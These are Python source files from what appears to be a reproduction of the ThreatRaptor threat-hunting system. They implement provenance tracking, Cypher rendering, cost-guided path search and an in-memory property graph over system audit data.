  timestamp), follow information flow *into* it, transitively and backwards in
  time, to find root causes (e.g. which process wrote the file the malicious
  process executed, and which connection that process downloaded it from);
* **forward tracking** — follow information flow *out of* a point of interest
  forwards in time, to measure impact (which files/hosts the compromised
  process went on to touch).

Information-flow direction per operation follows the usual convention:
``read``/``recv``/``accept``/``execute`` flow object → subject, everything else
(``write``, ``send``, ``connect``, ``fork``, ``exec``, ``create``, ...) flows
subject → object.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field

from repro.storage.graph.graphdb import GraphDatabase
from repro.storage.graph.model import Edge, Node

#: Operations whose information flow goes from the object entity to the
#: subject process; every other operation flows subject → object.
_OBJECT_TO_SUBJECT = frozenset({"read", "recv", "accept", "execute"})


def flow_endpoints(edge: Edge) -> tuple[int, int]:
    """Return ``(source_entity_id, destination_entity_id)`` of the data flow."""
    if edge.relationship in _OBJECT_TO_SUBJECT:
        return edge.target_id, edge.source_id
    return edge.source_id, edge.target_id


@dataclass
class ProvenanceResult:
    """A causal subgraph rooted at a point of interest.

    Attributes:
        origin_id: Entity id the tracking started from.
        direction: ``"backward"`` or ``"forward"``.
        nodes: Entities reached, keyed by id.
        edges: Events traversed, in traversal order.
        depths: Causal distance (number of flow hops) of each reached entity.
    """

    origin_id: int
    direction: str
    nodes: dict[int, Node] = field(default_factory=dict)
    edges: list[Edge] = field(default_factory=list)
    depths: dict[int, int] = field(default_factory=dict)

    def entity_ids(self) -> set[int]:
        return set(self.nodes)

    def event_ids(self) -> set[int]:
        return {edge.edge_id for edge in self.edges}

    def to_lines(self, graph: GraphDatabase) -> list[str]:
        """Readable rendering: one line per traversed event in time order."""
        lines = []
        for edge in sorted(self.edges, key=lambda e: e.start_time):
            source = graph.node(edge.source_id)
            target = graph.node(edge.target_id)
            lines.append(
                f"[{edge.start_time}] {source.get('exename') or source.get('name') or source.get('dstip')}"
                f" --{edge.relationship}--> "
                f"{target.get('exename') or target.get('name') or target.get('dstip')}"
            )
        return lines


class ProvenanceTracker:
    """Backward/forward causality tracking over a loaded :class:`GraphDatabase`.

    Args:
        graph: The audit graph to track over.
        max_depth: Maximum number of causal hops to expand (guards against
            dependency explosion on long-running traces).
        max_events: Hard cap on traversed events.
    """

    def __init__(self, graph: GraphDatabase, max_depth: int = 10, max_events: int = 100_000) -> None:
        if max_depth < 1:
            raise ValueError("max_depth must be at least 1")
        self._graph = graph
        self._max_depth = max_depth
        self._max_events = max_events
        self._flows_in: dict[int, list[Edge]] = {}
        self._flows_out: dict[int, list[Edge]] = {}
        self._build_flow_index()

    def _build_flow_index(self) -> None:
        """Index every edge by the entity its information flows into / out of."""
        for node in list(self._graph.nodes_with_label("process")) + list(
            self._graph.nodes_with_label("file")
        ) + list(self._graph.nodes_with_label("network")):
            self._flows_in.setdefault(node.node_id, [])
            self._flows_out.setdefault(node.node_id, [])
        for node_id in list(self._flows_in):
            for edge in self._graph.outgoing_edges(node_id):
                source, destination = flow_endpoints(edge)
                self._flows_out.setdefault(source, []).append(edge)
                self._flows_in.setdefault(destination, []).append(edge)

    # -- public API -----------------------------------------------------------

    def backward(self, entity_id: int, at_time: int | None = None) -> ProvenanceResult:
        """Track the root causes of ``entity_id``.

        Args:
            entity_id: The point-of-interest entity.
            at_time: Only flows that completed at or before this timestamp are
                considered at the first hop (and the constraint tightens
                monotonically along the traversal); ``None`` means "now".
        """
        return self._track(entity_id, at_time, direction="backward")

    def forward(self, entity_id: int, at_time: int | None = None) -> ProvenanceResult:
        """Track the downstream impact of ``entity_id`` starting at ``at_time``."""
        return self._track(entity_id, at_time, direction="forward")

    def impact_of_event(self, event_id: int) -> ProvenanceResult:
        """Forward impact of one event: what its destination went on to affect."""
        edge = self._graph.edge(event_id)
        _, destination = flow_endpoints(edge)
        result = self.forward(destination, at_time=edge.start_time)
        if edge not in result.edges:
            result.edges.insert(0, edge)
        result.nodes.setdefault(edge.source_id, self._graph.node(edge.source_id))
        result.nodes.setdefault(edge.target_id, self._graph.node(edge.target_id))
        return result

    # -- traversal ---------------------------------------------------------------

    def _track(self, entity_id: int, at_time: int | None, direction: str) -> ProvenanceResult:
        origin = self._graph.node(entity_id)  # raises QueryError for unknown ids
        result = ProvenanceResult(origin_id=entity_id, direction=direction)
        result.nodes[entity_id] = origin
        result.depths[entity_id] = 0

        boundary = at_time
        queue: deque[tuple[int, int, int | None]] = deque([(entity_id, 0, boundary)])
        seen_edges: set[int] = set()

        while queue and len(result.edges) < self._max_events:
            current, depth, time_bound = queue.popleft()
            if depth >= self._max_depth:
                continue
            candidates = (
                self._flows_in.get(current, ())
                if direction == "backward"
                else self._flows_out.get(current, ())
            )
            for edge in candidates:
                if edge.edge_id in seen_edges:
                    continue
                if direction == "backward":
                    if time_bound is not None and edge.start_time > time_bound:
                        continue
                    next_entity, _ = flow_endpoints(edge)
                    next_bound = edge.end_time
                else:
                    if time_bound is not None and edge.end_time < time_bound:
                        continue
                    _, next_entity = flow_endpoints(edge)
                    next_bound = edge.start_time
                seen_edges.add(edge.edge_id)
                result.edges.append(edge)
                if next_entity not in result.nodes:
                    result.nodes[next_entity] = self._graph.node(next_entity)
                    result.depths[next_entity] = depth + 1
                    queue.append((next_entity, depth + 1, next_bound))
        return result
