"""Cypher text rendering for graph path patterns.

For a variable-length event path pattern, ThreatRaptor "compiles it into a
Cypher data query by leveraging Cypher's path pattern syntax".  This module
renders :class:`~repro.storage.graph.pattern.PathPattern` objects as Cypher
``MATCH`` statements.  As with the SQL renderer, the text is used for the
CLI's ``--show-cypher`` output and for the query-conciseness experiment
(EXP-SYNTH); execution itself goes through
:class:`~repro.storage.graph.pattern.PathMatcher`.
"""

from __future__ import annotations

from typing import Any

from repro.storage.graph.pattern import PathPattern

#: Map from node label to the Cypher label identifier used in rendered text.
_LABEL_NAMES = {"process": "Process", "file": "File", "network": "Network"}


def _render_properties(properties: dict[str, Any]) -> str:
    if not properties:
        return ""
    rendered = ", ".join(f"{key}: {_render_value(value)}" for key, value in properties.items())
    return " {" + rendered + "}"


def _render_value(value: Any) -> str:
    if isinstance(value, str):
        escaped = value.replace("'", "\\'")
        return f"'{escaped}'"
    return str(value)


def render_path_pattern(
    pattern: PathPattern,
    source_variable: str = "p",
    target_variable: str = "f",
    edge_variable: str = "r",
    pretty: bool = True,
) -> str:
    """Render a path pattern as a Cypher MATCH ... RETURN statement.

    Variable-length patterns render the hop-count range in Cypher's ``*min..max``
    syntax on the relationship; single-hop patterns render a plain typed
    relationship.
    """
    separator = "\n" if pretty else " "

    source_label = _LABEL_NAMES.get(pattern.source.label or "", "")
    target_label = _LABEL_NAMES.get(pattern.target.label or "", "")
    source_text = f"({source_variable}{':' + source_label if source_label else ''}" + _render_properties(pattern.source.properties) + ")"
    target_text = f"({target_variable}{':' + target_label if target_label else ''}" + _render_properties(pattern.target.properties) + ")"

    relationship = pattern.final_edge.relationship
    type_text = f":{relationship.upper()}" if relationship else ""

    if pattern.max_length == 1:
        relationship_text = f"-[{edge_variable}{type_text}]->"
        match_clause = f"MATCH {source_text}{relationship_text}{target_text}"
    else:
        # Cypher models "any hops then a typed final hop" as a variable-length
        # anonymous segment followed by the typed final relationship.
        intermediate = f"-[*{max(0, pattern.min_length - 1)}..{pattern.max_length - 1}]->"
        final = f"-[{edge_variable}{type_text}]->"
        match_clause = (
            f"MATCH path = {source_text}{intermediate}(){final}{target_text}"
        )

    clauses = [match_clause]
    window = pattern.final_edge.window
    if window is not None:
        clauses.append(
            f"WHERE {edge_variable}.starttime >= {window[0]} "
            f"AND {edge_variable}.starttime <= {window[1]}"
        )

    return_items = [source_variable, target_variable, edge_variable]
    clauses.append("RETURN " + ", ".join(return_items))
    return separator.join(clauses) + ";"


def count_query_lines(cypher_text: str) -> int:
    """Count non-blank lines of a rendered Cypher query (for EXP-SYNTH)."""
    return sum(1 for line in cypher_text.splitlines() if line.strip())
