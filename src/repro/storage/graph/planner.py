"""Cost-guided path search over the property graph.

The reference :class:`~repro.storage.graph.pattern.PathMatcher` always runs a
forward DFS from every source-matching node — correct, but oblivious to how
selective each end of the pattern actually is.  This module adds the planner
the paper implies Neo4j provides ("indexes are created on key attributes to
speed up the search"): before searching, :class:`CostGuidedPathMatcher`
estimates the cardinality of both endpoints from the graph's label, property
and time indexes and picks the cheapest of three strategies:

* **forward** — DFS from the source candidates, as the oracle does, but over
  the time-sorted adjacency arrays so each temporal-order check is a bisect
  instead of a scan;
* **backward** — enumerate candidate *final hops* from the target side (the
  final hop is the only edge the pattern types), then grow the path prefix
  backwards; each prepended hop bisects to edges starting at or before the
  currently earliest hop.  Wins whenever the target side is more selective
  than the source side — the common shape for synthesized TBQL queries whose
  object carries the IOC filter;
* **window-seeded** — when the final edge carries a time window (a standing
  hunt's watermark, or an explicit TBQL window), seed directly from the
  graph's global time index: only edges that *started inside the window* are
  considered as final hops, so the work scales with the window's edge count,
  not with graph size.  Because path edges are temporally non-decreasing, the
  final hop of any match involving a new edge must itself lie in the window —
  this is what makes delta-seeded incremental hunts exact.

For longer variable-length patterns a forward search additionally runs the
backward half first as a **meet-in-the-middle** reachability sweep: a reverse
BFS from the target candidates labels every node with the minimum number of
hops it needs to complete a valid suffix (final typed hop included).  The
forward DFS then prunes any branch whose depth plus that lower bound exceeds
``max_length``, which removes the dead expansions that dominate the oracle's
cost on noisy audit graphs.

All strategies enumerate exactly the set of paths the oracle enumerates (the
property tests assert this); only the order differs.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any, Iterator

from repro.storage.graph.graphdb import GraphDatabase
from repro.storage.graph.model import Edge, Node, Path
from repro.storage.graph.pattern import NodePattern, PathPattern

#: Forward searches over patterns at least this long run the meet-in-the-middle
#: reachability sweep when the estimated expansion exceeds the sweep's cost.
_REACHABILITY_MIN_LENGTH = 2


@dataclass
class SearchPlan:
    """The strategy chosen for one pattern, with the estimates behind it.

    Exposed through :meth:`CostGuidedPathMatcher.plan` and the engine's
    EXPLAIN-style statistics so tests and benchmarks can assert on routing.
    """

    strategy: str  #: "forward" | "backward" | "window-seeded" | "empty"
    source_candidates: int
    target_candidates: int
    forward_fanout: int = 0
    backward_fanout: int = 0
    window_edges: int | None = None
    uses_reachability: bool = False
    #: Materialized candidate nodes (absent for window-seeded plans, which
    #: never enumerate candidates).
    sources: list[Node] | None = field(default=None, repr=False)
    targets: list[Node] | None = field(default=None, repr=False)

    def describe(self) -> dict[str, Any]:
        """Flat summary for query statistics."""
        summary: dict[str, Any] = {
            "strategy": self.strategy,
            "sources": self.source_candidates,
            "targets": self.target_candidates,
            "meet_in_middle": self.uses_reachability,
        }
        if self.window_edges is not None:
            summary["window_edges"] = self.window_edges
        return summary


class CostGuidedPathMatcher:
    """Drop-in replacement for :class:`PathMatcher` with cost-guided planning.

    Same ``match(pattern)`` contract as the reference matcher; additionally
    exposes :meth:`plan` and :attr:`last_plan` for EXPLAIN output.
    """

    def __init__(self, graph: GraphDatabase) -> None:
        self._graph = graph
        self.last_plan: SearchPlan | None = None

    # -- planning ------------------------------------------------------------

    def plan(self, pattern: PathPattern) -> SearchPlan:
        """Choose a search strategy for ``pattern`` from index statistics.

        The window-seeded decision uses only O(log) index lookups (label
        counts and a bisect on the time index), never a candidate scan — a
        standing hunt's per-batch planning must not grow with the graph.
        """
        graph = self._graph
        window = pattern.final_edge.window
        source_estimate = self._index_estimate(pattern.source)
        target_estimate = self._index_estimate(pattern.target)
        if window is not None:
            window_edges = graph.count_edges_started_between(
                window[0], window[1], relationship=pattern.final_edge.relationship
            )
            if window_edges <= min(source_estimate, target_estimate):
                return SearchPlan(
                    strategy="window-seeded",
                    source_candidates=source_estimate,
                    target_candidates=target_estimate,
                    window_edges=window_edges,
                )

        sources = self._candidates(pattern.source)
        if not sources:
            return SearchPlan(
                strategy="empty",
                source_candidates=0,
                target_candidates=target_estimate,
                sources=sources,
            )
        forward_fanout = sum(graph.out_degree(node.node_id) for node in sources)

        def needs_reachability() -> bool:
            if pattern.max_length < _REACHABILITY_MIN_LENGTH or forward_fanout == 0:
                return False
            # Estimate the DFS expansion as fanout × branching^(depth-1); when
            # it exceeds one sweep over the edge set, the meet-in-the-middle
            # reachability map pays for itself.  Compared in log space: the
            # parser accepts arbitrarily large hop bounds, and a plain float
            # power overflows long before the comparison would saturate.
            branching = max(1.0, graph.edge_count() / max(1, graph.node_count()))
            log_explosion = math.log(forward_fanout) + (pattern.max_length - 1) * math.log(
                branching
            )
            return log_explosion > math.log(max(1, graph.edge_count()))

        uses_reachability = needs_reachability()
        if forward_fanout <= target_estimate and not uses_reachability:
            # Backward cannot win: enumerating its candidate final hops costs
            # at least one scan of the target bucket, which already exceeds
            # the whole forward expansion.  Skip materializing the targets —
            # a plain forward search never reads them.
            return SearchPlan(
                strategy="forward",
                source_candidates=len(sources),
                target_candidates=target_estimate,
                forward_fanout=forward_fanout,
                sources=sources,
            )

        targets = self._candidates(pattern.target)
        if not targets:
            return SearchPlan(
                strategy="empty",
                source_candidates=len(sources),
                target_candidates=0,
                sources=sources,
                targets=targets,
            )
        backward_fanout = sum(
            graph.in_degree(node.node_id, pattern.final_edge.relationship)
            for node in targets
        )
        strategy = "backward" if backward_fanout < forward_fanout else "forward"
        if strategy == "backward":
            uses_reachability = False
        return SearchPlan(
            strategy=strategy,
            source_candidates=len(sources),
            target_candidates=len(targets),
            forward_fanout=forward_fanout,
            backward_fanout=backward_fanout,
            window_edges=None,
            uses_reachability=uses_reachability,
            sources=sources,
            targets=targets,
        )

    def _index_estimate(self, node_pattern: NodePattern) -> int:
        """Candidate-count upper bound from indexes only (no scan)."""
        graph = self._graph
        estimate = graph.node_count()
        if node_pattern.label is not None:
            estimate = graph.label_count(node_pattern.label)
            for name, value in node_pattern.properties.items():
                indexed = graph.property_index_count(node_pattern.label, name, value)
                if indexed is not None:
                    estimate = min(estimate, indexed)
        if node_pattern.allowed_ids is not None:
            estimate = min(estimate, len(node_pattern.allowed_ids))
        return estimate

    def _candidates(self, node_pattern: NodePattern) -> list[Node]:
        """Materialize the nodes matching one endpoint pattern."""
        graph = self._graph
        if node_pattern.allowed_ids is not None:
            nodes = []
            for node_id in node_pattern.allowed_ids:
                if graph.has_node(node_id):
                    node = graph.node(node_id)
                    if node_pattern.matches(node):
                        nodes.append(node)
            return nodes
        found = graph.find_nodes(node_pattern.label, **node_pattern.properties)
        return [node for node in found if node_pattern.matches(node)]

    # -- matching ------------------------------------------------------------

    def match(self, pattern: PathPattern) -> Iterator[Path]:
        """Yield every path matching ``pattern`` (same set as the oracle)."""
        plan = self.plan(pattern)
        self.last_plan = plan
        if plan.strategy == "empty":
            return
        if plan.strategy == "window-seeded":
            yield from self._window_seeded(pattern)
            return
        if plan.strategy == "backward":
            yield from self._backward(pattern, plan.targets or [])
            return
        reach = self._reachability(pattern, plan.targets or []) if plan.uses_reachability else None
        yield from self._forward(pattern, plan.sources or [], reach)

    # -- forward strategy ----------------------------------------------------

    def _forward(
        self,
        pattern: PathPattern,
        sources: list[Node],
        reach: dict[int, int] | None,
    ) -> Iterator[Path]:
        graph = self._graph
        max_length = pattern.max_length
        window = pattern.final_edge.window
        if max_length == 1:
            # Single-hop fast path, mirroring the oracle's ``_single_hop``:
            # read only the typed adjacency bucket (window bounds included —
            # the only hop is the final hop), and allow a self-loop — plain
            # event patterns have SQL semantics, where subject and object may
            # resolve to the same entity.  (Variable-length patterns are
            # simple paths; self-loops stay excluded there.)
            relationship = pattern.final_edge.relationship
            for source in sources:
                for edge in graph.outgoing_edges(
                    source.node_id,
                    relationship,
                    min_start=window[0] if window is not None else None,
                    max_start=window[1] if window is not None else None,
                ):
                    if not pattern.final_edge.matches(edge):
                        continue
                    target = graph.node(edge.target_id)
                    if pattern.target.matches(target):
                        yield Path(nodes=(source, target), edges=(edge,))
            return
        # With temporal order enforced, every edge starts at or before the
        # final hop, so a final-edge window also upper-bounds intermediates.
        window_max = (
            window[1] if window is not None and pattern.enforce_temporal_order else None
        )
        for source in sources:
            if reach is not None:
                remaining = reach.get(source.node_id)
                if remaining is None or remaining > max_length:
                    continue
            stack: list[tuple[Node, tuple[Node, ...], tuple[Edge, ...], frozenset[int]]] = [
                (source, (source,), (), frozenset((source.node_id,)))
            ]
            while stack:
                current, nodes, edges, visited = stack.pop()
                depth = len(edges)
                min_start = (
                    edges[-1].start_time
                    if edges and pattern.enforce_temporal_order
                    else None
                )
                for edge in graph.outgoing_edges(
                    current.node_id, min_start=min_start, max_start=window_max
                ):
                    if edge.target_id in visited:
                        continue
                    next_node = graph.node(edge.target_id)
                    hop_count = depth + 1
                    if (
                        hop_count >= pattern.min_length
                        and pattern.final_edge.matches(edge)
                        and pattern.target.matches(next_node)
                    ):
                        yield Path(nodes=nodes + (next_node,), edges=edges + (edge,))
                    if hop_count < max_length:
                        if pattern.intermediate_edge is not None and not pattern.intermediate_edge.matches(edge):
                            continue
                        if reach is not None:
                            remaining = reach.get(edge.target_id)
                            if remaining is None or hop_count + remaining > max_length:
                                continue
                        stack.append(
                            (
                                next_node,
                                nodes + (next_node,),
                                edges + (edge,),
                                visited | {edge.target_id},
                            )
                        )

    def _reachability(self, pattern: PathPattern, targets: list[Node]) -> dict[int, int]:
        """Minimum hops from each node to a valid pattern suffix.

        Reverse BFS (the backward half of meet-in-the-middle): level 1 holds
        sources of edges that can serve as the final hop into a target
        candidate, level *k* > 1 grows through edges admissible as
        intermediate hops.  Temporal order and the simple-path constraint are
        deliberately ignored — the map is a lower bound used only to prune.
        """
        graph = self._graph
        window = pattern.final_edge.window
        min_start = window[0] if window is not None else None
        max_start = window[1] if window is not None else None
        reach: dict[int, int] = {}
        frontier: set[int] = set()
        for target in targets:
            for edge in graph.incoming_edges(
                target.node_id,
                relationship=pattern.final_edge.relationship,
                min_start=min_start,
                max_start=max_start,
            ):
                if pattern.final_edge.matches(edge) and edge.source_id not in reach:
                    reach[edge.source_id] = 1
                    frontier.add(edge.source_id)
        depth = 1
        while frontier and depth < pattern.max_length:
            depth += 1
            next_frontier: set[int] = set()
            for node_id in frontier:
                for edge in graph.incoming_edges(node_id):
                    if pattern.intermediate_edge is not None and not pattern.intermediate_edge.matches(edge):
                        continue
                    if edge.source_id not in reach:
                        reach[edge.source_id] = depth
                        next_frontier.add(edge.source_id)
            frontier = next_frontier
        return reach

    # -- backward strategies -------------------------------------------------

    def _backward(self, pattern: PathPattern, targets: list[Node]) -> Iterator[Path]:
        graph = self._graph
        window = pattern.final_edge.window
        min_start = window[0] if window is not None else None
        max_start = window[1] if window is not None else None
        for target in targets:
            for edge in graph.incoming_edges(
                target.node_id,
                relationship=pattern.final_edge.relationship,
                min_start=min_start,
                max_start=max_start,
            ):
                if pattern.final_edge.matches(edge):
                    yield from self._grow_prefix(pattern, edge, target)

    def _window_seeded(self, pattern: PathPattern) -> Iterator[Path]:
        graph = self._graph
        window = pattern.final_edge.window
        assert window is not None  # guaranteed by plan()
        for edge in graph.edges_started_between(
            window[0], window[1], relationship=pattern.final_edge.relationship
        ):
            if not pattern.final_edge.matches(edge):
                continue
            target = graph.node(edge.target_id)
            if pattern.target.matches(target):
                yield from self._grow_prefix(pattern, edge, target)

    def _grow_prefix(
        self, pattern: PathPattern, final_edge: Edge, target: Node
    ) -> Iterator[Path]:
        """Enumerate all path prefixes completing ``final_edge`` into ``target``.

        States grow backwards from the final hop's source node; every
        prepended edge is a non-final hop, so it must satisfy the intermediate
        constraint and start at or before the currently earliest hop (a bisect
        on the time-sorted incoming adjacency).
        """
        graph = self._graph
        if final_edge.source_id == final_edge.target_id:
            # A self-loop can only be the degenerate single-hop match that
            # plain event patterns (max_length == 1) allow — see ``_forward``.
            if pattern.max_length == 1 and pattern.source.matches(target):
                yield Path(nodes=(target, target), edges=(final_edge,))
            return
        first = graph.node(final_edge.source_id)
        stack: list[tuple[Node, tuple[Node, ...], tuple[Edge, ...], frozenset[int]]] = [
            (first, (first, target), (final_edge,), frozenset((first.node_id, target.node_id)))
        ]
        while stack:
            current, nodes, edges, visited = stack.pop()
            length = len(edges)
            if length >= pattern.min_length and pattern.source.matches(current):
                yield Path(nodes=nodes, edges=edges)
            if length >= pattern.max_length:
                continue
            max_start = edges[0].start_time if pattern.enforce_temporal_order else None
            for edge in graph.incoming_edges(current.node_id, max_start=max_start):
                if edge.source_id in visited:
                    continue
                if pattern.intermediate_edge is not None and not pattern.intermediate_edge.matches(edge):
                    continue
                previous = graph.node(edge.source_id)
                stack.append(
                    (
                        previous,
                        (previous,) + nodes,
                        (edge,) + edges,
                        visited | {edge.source_id},
                    )
                )


__all__ = ["CostGuidedPathMatcher", "SearchPlan"]
