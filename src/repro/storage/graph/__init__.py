"""In-memory property-graph engine (Neo4j substitute) for audit data."""

from repro.storage.graph.cypher import render_path_pattern
from repro.storage.graph.graphdb import DEFAULT_PROPERTY_INDEXES, GraphDatabase
from repro.storage.graph.model import Edge, Node, Path
from repro.storage.graph.pattern import (
    EdgePattern,
    NodePattern,
    PathMatcher,
    PathPattern,
)
from repro.storage.graph.planner import CostGuidedPathMatcher, SearchPlan
from repro.storage.graph.provenance import (
    ProvenanceResult,
    ProvenanceTracker,
    flow_endpoints,
)

__all__ = [
    "CostGuidedPathMatcher",
    "DEFAULT_PROPERTY_INDEXES",
    "Edge",
    "EdgePattern",
    "GraphDatabase",
    "Node",
    "NodePattern",
    "Path",
    "PathMatcher",
    "PathPattern",
    "ProvenanceResult",
    "ProvenanceTracker",
    "SearchPlan",
    "flow_endpoints",
    "render_path_pattern",
]
