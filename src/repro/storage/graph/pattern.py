"""Graph pattern matching: single-edge and variable-length path patterns.

ThreatRaptor compiles a TBQL variable-length event path pattern (e.g.
``proc p ~>(2~4)[read] file f``) into a Cypher data query "by leveraging
Cypher's path pattern syntax".  This module provides the matching engine the
Cypher substitute runs: given node predicates for the two endpoints, an
optional relationship constraint for the final hop, and minimum/maximum path
lengths, enumerate all simple paths that satisfy the pattern.

Path semantics follow the TBQL description:

* intermediate hops may use any relationship type (they represent the
  intermediate processes "forked to chain system events" that the OSCTI text
  omitted), while the **final hop** must match the declared operation;
* paths are **simple** (no repeated node), which is also Cypher's default for
  variable-length relationship patterns over distinct edges and prevents
  explosion on cyclic audit graphs;
* edges along a path must be **temporally non-decreasing** (each hop starts at
  or after the previous hop's start), reflecting causal event chains.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator

from repro.storage.graph.graphdb import GraphDatabase
from repro.storage.graph.model import Edge, Node, Path

NodePredicate = Callable[[Node], bool]
EdgePredicate = Callable[[Edge], bool]


def _always_true(_: Any) -> bool:
    return True


@dataclass
class NodePattern:
    """Constraints on one endpoint of a path pattern.

    ``allowed_ids`` is the scheduler's entity-id constraint (ids bound by
    earlier, more selective patterns).  It is declared as data rather than
    folded into ``predicate`` so the cost-guided planner can both enumerate
    candidates directly from it and use its size as an exact cardinality.
    """

    label: str | None = None
    properties: dict[str, Any] = field(default_factory=dict)
    predicate: NodePredicate | None = None
    allowed_ids: frozenset[int] | None = None

    def matches(self, node: Node) -> bool:
        if self.allowed_ids is not None and node.node_id not in self.allowed_ids:
            return False
        if self.label is not None and node.label != self.label:
            return False
        for key, value in self.properties.items():
            if node.properties.get(key) != value:
                return False
        if self.predicate is not None and not self.predicate(node):
            return False
        return True


@dataclass
class EdgePattern:
    """Constraints on one edge (the final hop of a path pattern).

    ``window`` bounds the edge's start time (inclusive).  Like
    ``NodePattern.allowed_ids`` it is declarative so the planner can seed the
    search from the graph's time index instead of filtering after the fact —
    this is what makes watermark-windowed standing hunts incremental.
    """

    relationship: str | None = None
    predicate: EdgePredicate | None = None
    window: tuple[int, int] | None = None

    def matches(self, edge: Edge) -> bool:
        if self.relationship is not None and edge.relationship != self.relationship:
            return False
        if self.window is not None:
            start = edge.start_time
            if start < self.window[0] or start > self.window[1]:
                return False
        if self.predicate is not None and not self.predicate(edge):
            return False
        return True


@dataclass
class PathPattern:
    """A variable-length path pattern between two node patterns.

    Attributes:
        source: Constraints on the start node (the subject process).
        target: Constraints on the end node (the object entity).
        final_edge: Constraints on the last hop's edge (operation type etc.).
        min_length: Minimum number of hops (>= 1).
        max_length: Maximum number of hops.
        intermediate_edge: Optional constraints applied to non-final hops.
        enforce_temporal_order: Require non-decreasing start times along the
            path (on by default; matches causal chains in audit data).
    """

    source: NodePattern = field(default_factory=NodePattern)
    target: NodePattern = field(default_factory=NodePattern)
    final_edge: EdgePattern = field(default_factory=EdgePattern)
    min_length: int = 1
    max_length: int = 1
    intermediate_edge: EdgePattern | None = None
    enforce_temporal_order: bool = True

    def __post_init__(self) -> None:
        if self.min_length < 1:
            raise ValueError("min_length must be at least 1")
        if self.max_length < self.min_length:
            raise ValueError("max_length must be >= min_length")


class PathMatcher:
    """Enumerates paths in a :class:`GraphDatabase` matching a :class:`PathPattern`.

    The search is a depth-first enumeration from every source-matching node,
    bounded by ``max_length``, pruned by the simple-path constraint and the
    temporal-order constraint.  Candidate source nodes are obtained through the
    property index when the source pattern constrains an indexed property.

    This always-forward DFS is the **reference oracle**: the production engine
    uses :class:`~repro.storage.graph.planner.CostGuidedPathMatcher`, and the
    property tests and benchmarks compare it against this implementation
    (mirroring the relational ``ReferenceQueryExecutor``).
    """

    def __init__(self, graph: GraphDatabase) -> None:
        self._graph = graph

    def match(self, pattern: PathPattern) -> Iterator[Path]:
        """Yield every path matching ``pattern``."""
        for source in self._candidate_sources(pattern):
            yield from self._search_from(source, pattern)

    def match_single_edges(self, pattern: PathPattern) -> Iterator[Path]:
        """Fast path for 1-hop patterns: iterate matching edges directly.

        Delegates to the same ``_single_hop`` used by the general search so
        the two code paths cannot drift apart.
        """
        for source in self._candidate_sources(pattern):
            if pattern.source.matches(source):
                yield from self._single_hop(source, pattern)

    # -- internals -----------------------------------------------------------

    def _candidate_sources(self, pattern: PathPattern) -> Iterator[Node]:
        source = pattern.source
        if source.label is not None or source.properties:
            yield from self._graph.find_nodes(source.label, **source.properties)
            return
        # Unconstrained source: every node (rare — synthesized queries always
        # constrain the subject process).  Iterate the label index rather than
        # a hard-coded label whitelist so nodes of any label participate.
        for label in self._graph.labels():
            yield from self._graph.nodes_with_label(label)

    def _search_from(self, source: Node, pattern: PathPattern) -> Iterator[Path]:
        if not pattern.source.matches(source):
            return
        if pattern.max_length == 1:
            yield from self._single_hop(source, pattern)
            return
        stack: list[tuple[Node, list[Node], list[Edge], set[int]]] = [
            (source, [source], [], {source.node_id})
        ]
        while stack:
            current, nodes, edges, visited = stack.pop()
            depth = len(edges)
            last_start = edges[-1].start_time if edges else None
            for edge in self._graph.outgoing_edges(current.node_id):
                if (
                    pattern.enforce_temporal_order
                    and last_start is not None
                    and edge.start_time < last_start
                ):
                    continue
                next_node = self._graph.node(edge.target_id)
                if next_node.node_id in visited:
                    continue
                hop_count = depth + 1
                # Can this edge be the final hop?
                if (
                    hop_count >= pattern.min_length
                    and pattern.final_edge.matches(edge)
                    and pattern.target.matches(next_node)
                ):
                    yield Path(
                        nodes=tuple(nodes + [next_node]),
                        edges=tuple(edges + [edge]),
                    )
                # Can the search continue through this edge?
                if hop_count < pattern.max_length:
                    if pattern.intermediate_edge is not None and not pattern.intermediate_edge.matches(edge):
                        continue
                    stack.append(
                        (
                            next_node,
                            nodes + [next_node],
                            edges + [edge],
                            visited | {next_node.node_id},
                        )
                    )

    def _single_hop(self, source: Node, pattern: PathPattern) -> Iterator[Path]:
        relationship = pattern.final_edge.relationship
        for edge in self._graph.outgoing_edges(source.node_id, relationship):
            if not pattern.final_edge.matches(edge):
                continue
            target = self._graph.node(edge.target_id)
            if pattern.target.matches(target):
                yield Path(nodes=(source, target), edges=(edge,))
