"""The property-graph store (Neo4j substitute) for audit data.

:class:`GraphDatabase` stores system entities as nodes and system events as
edges, with three kinds of indexes that mirror what the paper relies on in
Neo4j ("indexes are created on key attributes to speed up the search"):

* a **label index** — node ids per label;
* **property indexes** — node ids per (label, property, value), created on the
  same key attributes the relational store indexes (name, exename, dstip);
* **adjacency indexes** — outgoing and incoming edge ids per node, grouped by
  relationship type, which drive path pattern search.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Any, Iterable, Iterator

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import QueryError
from repro.storage.graph.model import Edge, Node

#: Node properties indexed by default, per label.
DEFAULT_PROPERTY_INDEXES: dict[str, tuple[str, ...]] = {
    "file": ("name",),
    "process": ("exename",),
    "network": ("dstip",),
}


class GraphDatabase:
    """In-memory property graph with adjacency and property indexes."""

    def __init__(self) -> None:
        self._nodes: dict[int, Node] = {}
        self._edges: dict[int, Edge] = {}
        self._label_index: dict[str, set[int]] = defaultdict(set)
        self._property_index: dict[tuple[str, str, Any], set[int]] = defaultdict(set)
        self._outgoing: dict[int, dict[str, list[int]]] = defaultdict(lambda: defaultdict(list))
        self._incoming: dict[int, dict[str, list[int]]] = defaultdict(lambda: defaultdict(list))

    def clear(self) -> None:
        """Drop every node, edge and index."""
        self._nodes.clear()
        self._edges.clear()
        self._label_index.clear()
        self._property_index.clear()
        self._outgoing.clear()
        self._incoming.clear()

    # -- loading -----------------------------------------------------------

    def add_node(self, node: Node) -> None:
        """Insert one node and maintain label/property indexes.

        Raises:
            QueryError: if a node with the same id already exists.
        """
        if node.node_id in self._nodes:
            raise QueryError(f"duplicate node id {node.node_id}")
        self._nodes[node.node_id] = node
        self._label_index[node.label].add(node.node_id)
        for property_name in DEFAULT_PROPERTY_INDEXES.get(node.label, ()):
            value = node.properties.get(property_name)
            if value is not None:
                self._property_index[(node.label, property_name, value)].add(node.node_id)

    def add_edge(self, edge: Edge) -> None:
        """Insert one edge and maintain adjacency indexes.

        Raises:
